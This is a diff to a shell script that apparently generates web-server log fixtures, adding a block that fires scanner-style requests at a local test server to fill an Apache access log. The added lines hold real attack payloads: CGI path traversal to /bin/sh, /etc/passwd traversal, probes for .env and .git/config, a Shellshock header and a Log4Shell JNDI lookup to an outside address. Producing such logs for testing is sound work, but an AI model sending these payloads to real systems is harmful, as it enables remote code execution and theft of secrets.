@@ -222,3 +222,17 @@ while [ $round -le 220 ]; do
     round=$((round + 1))
 done
 cut_end web-bulk-data nginx/access.log
+
+cut_begin apache-scan
+SERVER_NGINX=$SERVER
+SERVER=$SERVER:8080
+hit /
+hit '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh' -d 'echo; id'
+hit '/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd'
+hit '/.env'
+hit '/.git/config'
+hit '/phpmyadmin/index.php'
+hit '/' -A '() { :; }; /bin/bash -c "id"'
+hit '/?x=${jndi:ldap://198.51.100.66/a}'
+SERVER=$SERVER_NGINX
+cut_end apache-scan apache2/access.log
